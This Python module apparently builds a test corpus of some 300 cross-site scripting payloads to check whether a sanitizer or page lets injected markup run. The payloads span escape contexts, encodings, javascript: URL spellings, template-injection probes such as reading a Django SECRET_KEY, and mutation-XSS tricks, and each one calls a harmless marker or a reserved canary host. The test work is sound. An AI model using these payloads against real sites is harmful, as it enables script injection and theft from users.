"""300 hostile texts, built from contexts x vectors x encodings. Run by a browser, text number n calls `__x(n)` or asks CANARY.

A context is what the text has to leave first, a vector is what a browser would then run, an encoding is how it is written.
"""

from base64 import b64encode
from collections.abc import Callable, Iterable
from html import escape
from itertools import chain
from urllib.parse import quote

#: A host that nobody has (RFC 6761).
CANARY = "canary.invalid"
CALL = "__x(0)"  # the 0 becomes the number of the text

# What a browser runs, or asks for, by itself

#: Those that go through every context; the rest go through plain text.
CORE = [
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<details open ontoggle={CALL}>",
    f'<iframe srcdoc="<script>parent.{CALL}</script>"></iframe>',
    f"<script src=//{CANARY}/0></script>",
    f"<a href=javascript:{CALL}>link</a>",
]
MORE = [
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate attributeName=x dur=1s onbegin={CALL}></svg>",
    f"<svg><set attributeName=x onbegin={CALL}></svg>",
    f"<svg><a href=javascript:{CALL}><text y=9>link</text></a></svg>",
    f"<svg><a><animate attributeName=href values=javascript:{CALL} /><text y=9>link</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>",
    f"<svg><image href=//{CANARY}/0 /></svg>",
    f"<svg><use href=//{CANARY}/0#a /></svg>",
    f"<math><mtext><img src=x onerror={CALL}></mtext></math>",
    f"<math href=javascript:{CALL}>link</math>",
    f"<body onload={CALL}>",
    f"<body onpageshow={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}></select>",
    f"<textarea autofocus onfocus={CALL}></textarea>",
    f"<p tabindex=0 autofocus onfocus={CALL}>p</p>",
    f"<video><source onerror={CALL}></video>",
    f"<video src=x onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}></audio>",
    f"<video poster=//{CANARY}/0></video>",
    f"<marquee onstart={CALL}>m</marquee>",
    f"<iframe src=javascript:parent.{CALL}></iframe>",
    f"<iframe src=//{CANARY}/0></iframe>",
    f"<object data=javascript:{CALL}></object>",
    f"<object data=//{CANARY}/0></object>",
    f"<embed src=javascript:{CALL}>",
    f"<embed src=//{CANARY}/0>",
    f'<meta http-equiv=refresh content="0;url=//{CANARY}/0">',
    f"<link rel=stylesheet href=//{CANARY}/0>",
    f"<link rel=prefetch href=//{CANARY}/0>",
    f"<link rel=stylesheet href=x onerror={CALL}>",
    f"<base href=//{CANARY}/0/>",
    f"<form action=//{CANARY}/0><button>Send</button></form>",
    f"<button formaction=javascript:{CALL}>Send</button>",
    f"<style>@import '//{CANARY}/0';</style>",
    f"<style>*{{background:url(//{CANARY}/0)}}</style>",
    f'<p style="background:url(//{CANARY}/0)">p</p>',
    f"<p style=animation-name:x onanimationstart={CALL}>p</p>",
    f"<style>@keyframes x{{}}</style><p style=animation:x onanimationend={CALL}>p</p>",
    f'<img srcset="//{CANARY}/0 1x">',
    f"<picture><source srcset=//{CANARY}/0><img></picture>",
    f"<img src=//{CANARY}/0>",
    f"<img loading=eager src=x onload={CALL} onerror={CALL}>",
    f"<input type=image src=//{CANARY}/0>",
    f"<table background=//{CANARY}/0><tr><td>t</table>",
    f"<template shadowrootmode=open><img src=x onerror={CALL}></template>",
    f"<div><template shadowrootmode=open><slot onslotchange={CALL}></slot></template>d</div>",
    f"<script type=module>{CALL}</script>",
    f'<script type=importmap>{{"imports":{{"a":"//{CANARY}/0"}}}}</script><script type=module>import "a"</script>',
    f"<a href=//{CANARY}/0 ping=//{CANARY}/0>link</a>",
    f"<xss oncontentvisibilityautostatechange={CALL} style=content-visibility:auto>x</xss>",
    f"<dialog open oncancel={CALL} onbeforetoggle={CALL}>d</dialog>",
]

# What a text has to leave first

#: Where it may stand -> what leads out of there.
CONTEXTS = {
    "attribute in double quotes": '">',
    "attribute in single quotes": "'>",
    "attribute without quotes": " >",
    "comment": "-->",
    "script": "</script>",
    "style": "</style>",
    "title": "</title>",
    "text area": "</textarea>",
    "no script": "</noscript>",
    "picture": "</text></g></svg>",
    "template": "</template>",
    "select": "</option></select>",
    "XML": "]]>",
    "all of them": "'\">--></style></title></textarea></script></noscript></svg>]]>",
}
#: An attribute that is left without a new tag.
ATTRIBUTES = [
    f'{mark} {event}={mark}{CALL}{mark} x={mark}'
    for mark in ('"', "'", "")
    for event in ("onmouseover", "autofocus tabindex=0 onfocus", "style=animation-name:x onanimationstart")
]  # fmt: skip
#: A string of a script, or of JSON within one, that is left.
STRINGS = [
    f'";{CALL}//', f"';{CALL}//", f"`;{CALL}//", f'"-{CALL}-"', f"'-{CALL}-'", f"${{{CALL}}}", f"`${{{CALL}}}`",
    f'\\";{CALL}//', f"\\';{CALL}//", f"\u2028{CALL}\u2029", f"*/{CALL}/*", f"\n{CALL}\n//", f'"}}]}};{CALL};//',
    f"<!--<script>{CALL}", f'"}}</script><script>{CALL}</script>', f"\\u0022;{CALL}//", f"\\x27;{CALL}//", f");{CALL};(",
]  # fmt: skip
#: Words of template languages, the server's and the browser's.
TEMPLATES = [
    f"{{{{{CALL}}}}}", f"{{{{constructor.constructor('{CALL}')()}}}}", "{% load x %}{% debug %}", "{{ settings.SECRET_KEY }}",
    f"{{{{'<script>{CALL}</script>'|safe}}}}", f"{{% autoescape off %}}<script>{CALL}</script>{{% endautoescape %}}",
    f"#{{{CALL}}}", f"<%= {CALL} %>", f"[[{CALL}]]", f"<p v-html=\"'<img src=x onerror={CALL}>'\">", f"<p ng-init={CALL}>",
    f"%(text)s{{0}}<img src=x onerror={CALL}>", f"[link](javascript:{CALL})", f"![image](x){{onerror={CALL}}}",
]  # fmt: skip

# How it may be written


def _entities(text: str, form: str) -> str:
    return "".join(form.format(ord(letter)) for letter in text)


def _wide(text: str) -> str:
    """The full-width forms, which some clean-ups fold back to ASCII."""
    return "".join(chr(ord(letter) + 0xFEE0) if letter in "<>\"'=/" else letter for letter in text)


ENCODINGS = {
    "capitals": lambda text: text.replace("script", "ScRiPt").replace("img", "iMg").replace("on", "oN").replace("svg", "sVg"),
    "slash for space": lambda text: text.replace(" ", "/"),
    "line for space": lambda text: text.replace(" ", "\n"),
    "form feed for space": lambda text: text.replace(" ", "\f"),
    "escaped once": escape,
    "escaped twice": lambda text: escape(escape(text)),
    "decimal": lambda text: _entities(text, "&#{};"),
    "hexadecimal without end": lambda text: _entities(text, "&#x{:x}"),
    "per cent": quote,
    "per cent twice": lambda text: quote(quote(text)),
    "JavaScript": lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    "full width": _wide,
    "UTF-7": lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    "no end": lambda text: text.rstrip(">"),
    "doubled": lambda text: text.replace("script", "scr<script>ipt").replace("on", "oonn"),
    "doubled start": lambda text: "<" + text,
    "joiner within": lambda text: text.replace("script", "scr\u200dipt").replace("on", "o\u200dn"),
    "override around": lambda text: f"\u202e{text}\u202c",
    "last of a word": lambda text: f"(Oh et al., 2018{text})",
}  # fmt: skip
ENCODED = CORE[:4]

#: An address that runs, in every spelling that browsers forgive.
URLS = [
    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f" javascript:{CALL}", f"\tjavascript:{CALL}", f"\x01javascript:{CALL}",
    f"java\tscript:{CALL}", f"java\nscript:{CALL}", f"javascript\t:{CALL}", f"javascript&colon;{CALL}",
    f"javascript&#58;{CALL}", f"&#106;avascript:{CALL}", f"java&Tab;script:{CALL}", f"javascript://{CANARY}/%0a{CALL}",
    f"javascript:/*https://{CANARY}/*/{CALL}", f"javascript:'https://{CANARY}';{CALL}", f"vbscript:{CALL}",
    f"view-source:javascript:{CALL}", f"blob:javascript:{CALL}", f"feed:javascript:{CALL}", f"//{CANARY}/0", f"/\\{CANARY}/0",
    f"\\\\{CANARY}/0", f"data:text/html,<script>{CALL}</script>",
    f"data:text/html;base64,{b64encode(f'<script>{CALL}</script>'.encode()).decode()}",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>",
    f"https:javascript:{CALL}", f"https://{CANARY}\"onmouseover=\"{CALL}", f"https://{CANARY}/'-{CALL}-'",
    f"https://user@{CANARY}/0<svg onload={CALL}>", f"mailto:a@{CANARY}\"><svg onload={CALL}>",
]  # fmt: skip

#: What is harmless as it is first read and runs once it was written out and is read anew: markup against the cleaner.
TWICE_READ = [
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>"></noscript>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={CALL}&gt;"></style></mglyph></table>',
    f'<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={CALL}>',
    f'<svg></p><style><a id="</style><img src=x onerror={CALL}>">',
    f"<svg><style>&lt;/style&gt;&lt;img src=x onerror={CALL}&gt;</style></svg>",
    f"<svg><title><a title='</title><img src=x onerror={CALL}>'></title></svg>",
    f"<math><annotation-xml encoding=text/html><style><img src=x onerror={CALL}></style></annotation-xml></math>",
    f"<math><mi><style><!--</style><img src=x onerror={CALL}>--></mi></math>",
    f"<table><td><a href='javascript:{CALL}'>a<table><td>b</table></a>",
    f"<p><h3><p><script>{CALL}</script></h3></p>",
    f"<a href='https://example.org/&quot;onmouseover=&quot;{CALL}'>link</a>",
    f"<a href=\"https://example.org/\nonmouseover={CALL}\">link</a>",
    f"<a href='https://example.org' href='javascript:{CALL}'>link</a>",
    f"<a/href='java&#x0A;script:{CALL}'>link</a>",
    f"<th scope='row\" onmouseover=\"{CALL}'>h</th>",
    f"<td colspan='2\" onmouseover={CALL} x=\"'>d</td>",
    f"<strong><script></strong>{CALL}</script>",
    f"<em><!--</em><img src=x onerror={CALL}>--></em>",
    f"<xmp><p title='</xmp><img src=x onerror={CALL}>'></xmp>",
    f"<p>(<a href=javascript:{CALL}>Oh et al., 2018</a>) NCT01363401</p>",
    f"<ins><img src=x onerror={CALL}></ins><del onclick={CALL}>gone</del>",
    f"<b onmouseover={CALL}>bold</b><i><script>{CALL}</script></i>",
    f"<![CDATA[<img src=x onerror={CALL}>]]>",
    f"<?xml-stylesheet href='javascript:{CALL}'?><p>p</p>",
    f"<!DOCTYPE x [<!ENTITY y '<img src=x onerror={CALL}>'>]>&y;",
    f"<!-- > <img src=x onerror={CALL}> -->",
    f"<!--[if]><script>{CALL}</script><![endif]-->",
    f"</p><plaintext><script>{CALL}</script>",
    f"</br onmouseover={CALL}></p style=x>",
    f"<p\x00onmouseover={CALL}>p".replace("\x00", "\ufffd"),
    f"<isindex type=image src=1 onerror={CALL}><listing><img src=x onerror={CALL}></listing>",
    f"<frameset onload={CALL}><frame src=javascript:{CALL}></frameset>",
    f"<label for=x><table><caption><svg><desc><p><style><!--</style><a title='--><img src=x onerror={CALL}>'>",
]  # fmt: skip


def _numbered(texts: Iterable[tuple[str, Callable[[str], str]]]) -> list[str]:
    """Each with its own number, written as it is to be written; one that is the same as another is left out."""
    once = dict.fromkeys(texts)
    return [
        write(text.replace(CALL, f"__x({number})").replace(f"{CANARY}/0", f"{CANARY}/{number}"))
        for number, (text, write) in enumerate(once)
    ]


def _all() -> list[str]:
    leaving = (way_out + vector for way_out in CONTEXTS.values() for vector in CORE)
    plain = chain(CORE, MORE, leaving, ATTRIBUTES, STRINGS, TEMPLATES, URLS, TWICE_READ)
    return _numbered([
        *((text, str) for text in plain),
        *((vector, write) for write in ENCODINGS.values() for vector in ENCODED),
    ])  # fmt: skip


PAYLOADS = _all()
#: They are planted so many at a time: in this many rounds everything has been everywhere.
AT_ONCE = 56
ROUNDS = -(-len(PAYLOADS) // AT_ONCE)


def of_round(number: int) -> list[str]:
    """Every ROUNDS-th text, so that each round has something of every kind."""
    return PAYLOADS[number::ROUNDS]
